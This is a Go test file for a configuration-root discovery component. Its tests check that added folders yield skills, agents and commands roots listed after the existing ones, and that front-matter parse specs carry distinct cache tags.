// Added, listed after every other root. So a session without them lists
// the same roots in the same order.
func TestAddedFoldersAreRootsListedLast(t *testing.T) {
	p := Places{Config: "/h/.claude", Project: "/p", Home: "/h"}
	before := p.Roots()
	p.Added = []string{"/x", "/p"}
	after := p.Roots()
	if !slices.EqualFunc(before, after[:len(before)], Root.Same) {
		t.Fatalf("the roots before the added ones moved")
	}
	var got []string
	for _, r := range after[len(before):] {
		if r.Scope != Added {
			t.Errorf("root %s is %s", r.Path, r.Scope)
		}
		got = append(got, r.Path)
	}
	// /p is the project: its roots are the project's already.
	want := []string{"/x/.claude/skills", "/x/.claude/agents", "/x/.claude/commands"}
	if !slices.Equal(got, want) {
		t.Errorf("added roots %q, want %q", got, want)
	}
}

// The forms a session start parses by the hundred are reused while their
// files are unchanged (walker.FrontCache): skills', agents' and commands'
// specs each tag their Front, and two different Fronts never share a tag.
func TestTheFrontsOfManyFilesAreTagged(t *testing.T) {
	tag := func(k Kind) string {
		ns := Root{Kind: k, Path: "/x"}.Spec().Each
		if ns == nil || ns.Front == nil || ns.FrontTag == "" {
			t.Fatalf("kind %v: spec %+v has no tagged Front", k, ns)
		}
		return ns.FrontTag
	}
	if tag(Skills) == tag(Agents) {
		t.Errorf("skills and agents share the tag %q, their Fronts differ", tag(Skills))
	}
	if tag(Agents) != tag(Commands) {
		t.Errorf("agents %q and commands %q: one Front, two tags", tag(Agents), tag(Commands))
	}
}
